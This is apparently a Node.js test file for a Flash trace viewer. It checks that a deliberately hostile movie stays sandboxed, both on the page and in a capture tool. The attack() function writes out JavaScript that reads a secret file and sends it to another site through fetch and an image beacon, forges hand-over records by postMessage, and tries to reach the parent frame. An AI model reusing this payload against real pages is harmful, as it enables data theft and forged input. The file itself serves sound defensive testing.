// A movie made to do harm, played on the viewer's page and by the
// capture: what its scripts try (getURL 'javascript:', ExternalInterface
// code, a forged hand-over, the folder's list, a file sent to another
// site) changes nothing outside its own box, while its tracer's records
// arrive as any movie's do.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';
import { mkdtemp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { serve } from '../../../src/server/http-server.js';
import { headlessOptions } from '../../../src/node/headless-chromium.js';
import { MovieFolder } from '../../../src/server/movie-folder.js';
import { buildMovie } from '../../support/build-movie.js';
import { tellPage } from '../../support/external-interface.js';
import { NO_FLASM } from '../../support/flasm.js';
import { moviePlayer, playerFrame } from '../../support/player.js';

const CAPTURE = fileURLToPath(new URL('../../../bin/vimbrel-capture', import.meta.url));
const SECRET = 'the folder holds this';
const FORGED = 'forged Enter 1,forged Exit 2';

let folder;
let movies;
// Another site on this machine, which hears whatever reaches it.
let elsewhere;
const heardElsewhere = [];

// What the movie's scripts try, as ExternalInterface runs it: one line of
// JavaScript, in the movie's frame.
function attack(site) {
  return `function () {
    var tried = window.hostile = { ran: true };
    try { parent.document.body.dataset.owned = "yes"; tried.parent = "reached"; } catch (e) { tried.parent = e.name; }
    fetch("/movies/").then(function (r) { return r.text(); }).then(function (t) { tried.list = t; },
      function () { tried.list = "refused"; });
    fetch("/movies/secret.txt").then(function (r) { return r.text(); }).then(function (t) {
      tried.secret = t;
      fetch("${site}/fetched?" + encodeURIComponent(t)).catch(function () { tried.sent = "refused"; });
      new Image().src = "${site}/image?" + encodeURIComponent(t);
    });
    parent.postMessage({ type: "command", command: "save", text: "${FORGED}" }, "*");
    try { window.vimbrelHandOver("save", "${FORGED}"); } catch (e) {}
    try { parent.vimbrelHandOver("save", "${FORGED}"); } catch (e) {}
    try { window.open("${site}/window"); } catch (e) {}
    return 1;
  }`.replace(/\s*\n\s*/g, ' ');
}

before(async () => {
  if (NO_FLASM) return;
  elsewhere = createServer((request, response) => {
    heardElsewhere.push(request.url);
    response.end('heard');
  });
  await new Promise((done) => elsewhere.listen(0, '127.0.0.1', done));
  const site = `http://127.0.0.1:${elsewhere.address().port}`;
  folder = await mkdtemp(join(tmpdir(), 'vimbrel-hostile-'));
  movies = join(folder, 'movies');
  await mkdir(movies);
  await writeFile(join(movies, 'secret.txt'), SECRET);
  // Untraced: the server and the capture trace it, as they would a movie
  // of an archive.
  await buildMovie({ folder: movies, name: 'hostile', frames: [`
    constants 'attack'
    function attack ()${tellPage(attack(site))}
    end // of function

    push 0.0, 'attack'
    callFunction
    pop
    getURL 'javascript:parent.document.title="owned";void 0' ''
    stop
`] });
});

after(async () => {
  elsewhere?.close();
  if (folder) await rm(folder, { recursive: true, force: true });
});

test('on the page, the movie\'s scripts run in its box only; its records arrive, none forged',
     { skip: NO_FLASM }, async () => {
  const server = await serve(0, '127.0.0.1', { movies: new MovieFolder({
    root: movies, work: join(folder, 'work'), traceOptions: { clock: 'date', collectFromStart: true } }) });
  const browser = await chromium.launch(headlessOptions());
  try {
    const page = await browser.newPage();
    const problems = [];
    page.on('pageerror', (error) => problems.push(error.message));
    await page.goto(`http://127.0.0.1:${server.address().port}/index.html?movie=/movies/hostile.swf`);
    await page.waitForSelector('body[data-movie="loaded"]', { timeout: 30000 });
    const frame = await playerFrame(page);
    await frame.waitForFunction(() => window.hostile?.secret && window.hostile?.list, null, { timeout: 15000 });
    const tried = await frame.evaluate(() => window.hostile);
    // It ran, and read what its folder holds, as a movie may; no more.
    assert.equal(tried.parent, 'SecurityError');
    assert.equal(tried.list, 'refused');
    assert.equal(tried.secret, SECRET);

    const player = moviePlayer(page);
    await player.click();
    await player.focus();
    await page.keyboard.down('F12');
    await page.keyboard.up('F12');
    const dump = page.locator('article.dump[data-state="ready"]');
    await dump.waitFor({ timeout: 15000 });
    assert.equal(await page.locator('article.dump').count(), 1);
    const functions = await dump.locator('.stats tbody td:first-child').allTextContents();
    assert.ok(functions.includes('attack'), functions.join(', '));
    assert.ok(!functions.includes('forged'), functions.join(', '));
    assert.equal(await page.getAttribute('body', 'data-owned'), null);
    assert.equal(await page.title(), 'Vimbrel trace viewer');
    await new Promise((done) => setTimeout(done, 500));
    assert.deepEqual(heardElsewhere, []);
    assert.deepEqual(problems, []);
  } finally {
    await browser.close();
    server.close();
  }
});

test('in the capture, the movie reaches no other site and hands over no forged record',
     { skip: NO_FLASM }, async () => {
  const out = join(folder, 'out');
  const child = spawn(process.execPath, [CAPTURE, join(movies, 'hostile.swf'), '--seconds', '2', '--out', out]);
  let stderr = '';
  child.stderr.on('data', (chunk) => { stderr += chunk; });
  const status = await new Promise((done) => child.on('close', done));
  assert.equal(status, 0, stderr);
  const dump = await readFile(join(out, 'dump.txt'), 'utf8');
  assert.match(dump, /^(frame 0 Enter \d+,)?attack Enter \d+,attack Exit \d+/);
  assert.doesNotMatch(dump, /forged/);
  assert.deepEqual(heardElsewhere, []);
});
